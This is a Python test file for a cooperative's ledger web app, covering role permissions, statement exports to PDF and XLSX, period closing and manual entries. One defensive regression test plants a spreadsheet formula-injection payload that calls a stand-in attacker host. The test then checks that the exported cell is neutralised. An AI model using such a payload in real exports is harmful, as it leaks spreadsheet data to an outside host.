"""Ledger pages: staff read, managers change, statements export to PDF and XLSX with the same figures."""

import datetime
import io
from decimal import Decimal

import pypdfium2 as pdfium
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from koperasi.ledger.models import Account, FiscalPeriod, JournalEntry, PeriodStatus
from koperasi.ledger.selectors import account_for
from koperasi.tenancy.context import cooperative_context
from tests.artifacts import artifacts_dir
from tests.factories.ledger import FixedAssetFactory, post_simple

pytestmark = pytest.mark.django_db
D = Decimal


@pytest.fixture
def books(coop):
    with cooperative_context(coop.pk):
        post_simple("2500000.00", debit="cash", credit="mandatory_savings", date=datetime.date(2026, 1, 5))
        post_simple("1234567.00", debit="cash", credit="sales_waserda", date=datetime.date(2026, 2, 5))
        post_simple("234567.00", debit="utilities", credit="cash", date=datetime.date(2026, 2, 6))
    return coop


def url(coop, path):
    return f"/k/{coop.slug}/ledger/{path}"


@pytest.mark.parametrize(
    "path",
    [
        "",
        "accounts/",
        "periods/",
        "assets/",
        "reports/trial-balance/?from=2026-01&to=2026-02",
        "reports/balance-sheet/?to=2026-02&compare_to=2026-01",
        "reports/income-statement/?from=2026-01&to=2026-02&compare_from=2025-01&compare_to=2025-02",
    ],
)
def test_staff_can_open_every_page(client, books, staff, path):
    client.force_login(staff)
    response = client.get(url(books, path))
    assert response.status_code == 200


def test_income_statement_page_shows_the_figures(client, books, staff):
    client.force_login(staff)
    html = client.get(url(books, "reports/income-statement/?from=2026-01&to=2026-02")).content.decode()
    assert "Penjualan waserda" in html
    assert "1.234.567,00" in html and "1.000.000,00" in html  # SHU = 1,234,567 − 234,567


def test_income_statement_as_pdf_carries_the_same_figures(client, books, staff):
    client.force_login(staff)
    response = client.get(url(books, "reports/income-statement/?from=2026-01&to=2026-02&format=pdf"))
    assert response["Content-Type"] == "application/pdf"
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "Penjualan waserda" in text
    assert "1.234.567,00" in text and "1.000.000,00" in text


def test_balance_sheet_as_xlsx(client, books, staff):
    client.force_login(staff)
    response = client.get(url(books, "reports/balance-sheet/?to=2026-02&format=xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = {row[1]: row[2] for row in sheet.iter_rows(min_row=5, values_only=True)}
    assert rows["Kas"] == pytest.approx(3500000.00)
    assert rows["Total assets"] == rows["Total liabilities and equity"] == pytest.approx(3500000.00)


def test_account_names_and_memos_cannot_become_formulas_or_break_the_xlsx(client, books, manager):
    """The holes: an account name ran as a formula in the trial balance; a memo with \u0003 made the
    general-ledger XLSX answer 500."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    with cooperative_context(books.pk):
        Account.objects.filter(system_key="utilities").update(name=evil)
        cash = account_for("cash")
        post_simple("1000.00", debit="cash", credit="other_income", date=datetime.date(2026, 2, 7), memo="tunai\u0003")
    client.force_login(manager)
    trial = client.get(url(books, "reports/trial-balance/?from=2026-01&to=2026-02&format=xlsx"))
    names = [row[1] for row in load_workbook(io.BytesIO(trial.content)).active.iter_rows() if row[1].value]
    (cell,) = [cell for cell in names if "HYPERLINK" in str(cell.value)]
    assert (cell.value, cell.data_type) == ("'" + evil, "s")
    ledger = client.get(url(books, f"reports/general-ledger/{cash.pk}/?from=2026-01&to=2026-02&format=xlsx"))
    assert ledger.status_code == 200
    rows = load_workbook(io.BytesIO(ledger.content)).active.iter_rows(values_only=True)
    (memo,) = [value for row in rows for value in row if "tunai" in str(value)]
    assert memo.endswith(" tunai")  # the control character is gone, the memo is not


def test_general_ledger_page(client, books, staff):
    with cooperative_context(books.pk):
        cash = account_for("cash")
    client.force_login(staff)
    html = client.get(url(books, f"reports/general-ledger/{cash.pk}/?from=2026-01&to=2026-02")).content.decode()
    assert "3.500.000,00" in html


def test_a_malformed_period_is_a_bad_request(client, books, staff):
    client.force_login(staff)
    assert client.get(url(books, "reports/trial-balance/?to=2026-13")).status_code == 400


def test_manager_adds_a_sub_account_and_deletes_an_unused_one(client, coop, manager):
    client.force_login(manager)
    with cooperative_context(coop.pk):
        bank = account_for("bank")
    response = client.post(url(coop, "accounts/add/"), {"parent": bank.pk, "code": "1102.01", "name": "Bank BRI"})
    assert response.status_code == 302
    with cooperative_context(coop.pk):
        sub = Account.objects.get(code="1102.01")
        assert (sub.parent, sub.type) == (bank, "asset")
    assert client.post(url(coop, f"accounts/{sub.pk}/delete/")).status_code == 302
    with cooperative_context(coop.pk):
        assert not Account.objects.filter(code="1102.01").exists()


def test_an_account_with_postings_cannot_be_deleted(client, books, manager):
    client.force_login(manager)
    with cooperative_context(books.pk):
        sub = Account.objects.create(code="1101.01", name="Kas kecil", type="asset", parent=account_for("cash"))
        post_simple("10.00", debit=sub.pk, credit="cash")
    client.post(url(books, f"accounts/{sub.pk}/delete/"))
    with cooperative_context(books.pk):
        assert Account.objects.filter(pk=sub.pk).exists()


def test_staff_cannot_close_periods_or_add_accounts(client, coop, staff):
    client.force_login(staff)
    assert client.post(url(coop, "periods/close/"), {"year": 2026, "month": 1}).status_code == 403
    assert client.post(url(coop, "accounts/add/"), {"type": "asset", "code": "9", "name": "x"}).status_code == 403


def test_manager_closes_and_reopens_a_period(client, coop, manager):
    client.force_login(manager)
    client.post(url(coop, "periods/close/"), {"year": 2026, "month": 1})
    with cooperative_context(coop.pk):
        assert FiscalPeriod.objects.get(year=2026, month=1).status == PeriodStatus.CLOSED
    client.post(url(coop, "periods/reopen/"), {"year": 2026, "month": 1, "reason": "salah input"})
    with cooperative_context(coop.pk):
        assert FiscalPeriod.objects.get(year=2026, month=1).status == PeriodStatus.OPEN


def test_manager_posts_a_manual_entry_once_and_reverses_it(client, coop, manager):
    client.force_login(manager)
    with cooperative_context(coop.pk):
        cash, grants = account_for("cash").pk, account_for("grants").pk
    data = {
        "date": "2026-03-02",
        "memo": "Hibah dinas koperasi",
        "key": "abc123",
        "form-TOTAL_FORMS": "2",
        "form-INITIAL_FORMS": "0",
        "form-MIN_NUM_FORMS": "0",
        "form-MAX_NUM_FORMS": "40",
        "form-0-account": cash,
        "form-0-debit": "5000000",
        "form-1-account": grants,
        "form-1-credit": "5000000",
    }
    assert client.post(url(coop, "entries/new/"), data).status_code == 302
    assert client.post(url(coop, "entries/new/"), data).status_code == 302  # double submit: same entry
    with cooperative_context(coop.pk):
        entry = JournalEntry.objects.get()
    response = client.post(url(coop, f"entries/{entry.pk}/reverse/"), {"date": "2026-03-03", "reason": "batal"})
    assert response.status_code == 302
    with cooperative_context(coop.pk):
        reversal = JournalEntry.objects.get(reversal_of=entry)
        assert reversal.lines.count() == 2
    page = client.get(url(coop, f"entries/{entry.pk}/"))
    assert page.status_code == 200
    assert "Reversed by" in page.content.decode() and reversal.display_number in page.content.decode()


def test_an_unbalanced_manual_entry_is_shown_back_with_the_error(client, coop, manager):
    client.force_login(manager)
    with cooperative_context(coop.pk):
        cash, grants = account_for("cash").pk, account_for("grants").pk
    data = {
        "date": "2026-03-02",
        "memo": "x",
        "form-TOTAL_FORMS": "2",
        "form-INITIAL_FORMS": "0",
        "form-0-account": cash,
        "form-0-debit": "10",
        "form-1-account": grants,
        "form-1-credit": "9",
    }
    response = client.post(url(coop, "entries/new/"), data)
    assert response.status_code == 400
    assert "differ" in response.content.decode()


def test_manager_registers_an_asset(client, coop, manager):
    client.force_login(manager)
    response = client.post(
        url(coop, "assets/"),
        {
            "code": "AT-9",
            "name": "Timbangan",
            "acquisition_date": "2026-01-05",
            "cost": "1200000",
            "salvage_value": "0",
            "useful_life_months": "24",
        },
    )
    assert response.status_code == 302
    with cooperative_context(coop.pk):
        FixedAssetFactory(code="AT-10")
    assert "Timbangan" in client.get(url(coop, "assets/")).content.decode()


def test_another_cooperatives_entry_is_not_found(client, coop, other_coop, manager):
    with cooperative_context(other_coop.pk):
        foreign = post_simple()
    client.force_login(manager)
    assert client.get(url(coop, f"entries/{foreign.pk}/")).status_code == 404


def test_assessors_read_the_statements_but_cannot_close_periods(client, books):
    from tests.factories.tenancy import user_with_role

    assessor = user_with_role(books, "assessor", username="penilai")
    client.force_login(assessor)
    assert client.get(url(books, "reports/balance-sheet/?to=2026-02")).status_code == 200
    assert client.post(url(books, "periods/close/"), {"year": 2026, "month": 1}).status_code == 403


@pytest.mark.indonesian
def test_statements_name_months_as_people_write_them_and_files_have_ascii_names(client, books, staff):
    """Issue 17: months read "Januari 2026", not "2026-01"; an en dash made the file name RFC 2047 garbage."""
    client.force_login(staff)
    html = client.get(url(books, "reports/trial-balance/?from=2026-01&to=2026-02")).content.decode()
    assert "Januari 2026 – Februari 2026" in html
    for output in ("pdf", "xlsx"):
        response = client.get(url(books, f"reports/trial-balance/?from=2026-01&to=2026-02&format={output}"))
        disposition = response["Content-Disposition"]
        assert disposition.isascii() and disposition.endswith(f'trial_balance-2026-01_2026-02.{output}"'), disposition
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Neraca saldo" and sheet["A1"].value == "Koperasi A"
    assert [cell.value for cell in sheet[4]][:2] == ["Kode", "Akun"]


def test_a_refusal_names_the_month_in_words(in_coop, manager):
    from koperasi.ledger.error_codes import LedgerError
    from koperasi.ledger.services import close_period

    close_period(actor=manager, year=2026, month=1)
    with pytest.raises(LedgerError, match="January 2026"):
        post_simple(date=datetime.date(2026, 1, 20))


def test_the_trial_balance_pdf_is_landscape_and_every_page_names_the_cooperative_and_period(client, books, staff):
    """Issue 17 item 2: the trial balance was clipped on A4 portrait."""
    client.force_login(staff)
    response = client.get(url(books, "reports/trial-balance/?from=2026-01&to=2026-02&format=pdf"))
    reader = PdfReader(io.BytesIO(response.content))
    width, height = reader.pages[0].mediabox.width, reader.pages[0].mediabox.height
    assert width > height  # landscape
    for page in reader.pages:
        text = page.extract_text()
        assert "Koperasi A" in text and "January 2026 – February 2026" in text
    page_one = pdfium.PdfDocument(response.content)[0]
    page_width, _height = page_one.get_size()
    text = page_one.get_textpage()
    rightmost = max(text.get_charbox(index)[2] for index in range(text.count_chars()))
    assert rightmost < page_width - 20  # every column inside the page, with a margin: nothing clipped
    page_one.render(scale=1.5).to_pil().save(artifacts_dir() / "trial-balance-page-1.png")
    narrow = client.get(url(books, f"reports/general-ledger/{_cash(books)}/?from=2026-01&to=2026-02&format=pdf"))
    first = PdfReader(io.BytesIO(narrow.content)).pages[0].mediabox
    assert first.height > first.width  # four columns fit on portrait


def _cash(coop) -> int:
    with cooperative_context(coop.pk):
        return account_for("cash").pk


def test_the_periods_page_lists_set_up_months_and_asks_before_closing(client, books, manager):
    from koperasi.ledger.services import open_fiscal_year

    with cooperative_context(books.pk):
        open_fiscal_year(actor=None, fiscal_year=datetime.date.today().year + 1)
    client.force_login(manager)
    html = client.get(url(books, "periods/")).content.decode()
    next_year = datetime.date.today().year + 1
    assert f'data-testid="period-{next_year}-01"' in html  # set up ahead: listed
    row = html.split(f'data-testid="period-{next_year}-01"')[1].split("</tr>")[0]
    assert "periods/close/" not in row  # a month not yet ended offers no Close
    assert 'data-confirm="' in html and "Every earlier month still open is closed with it" in html
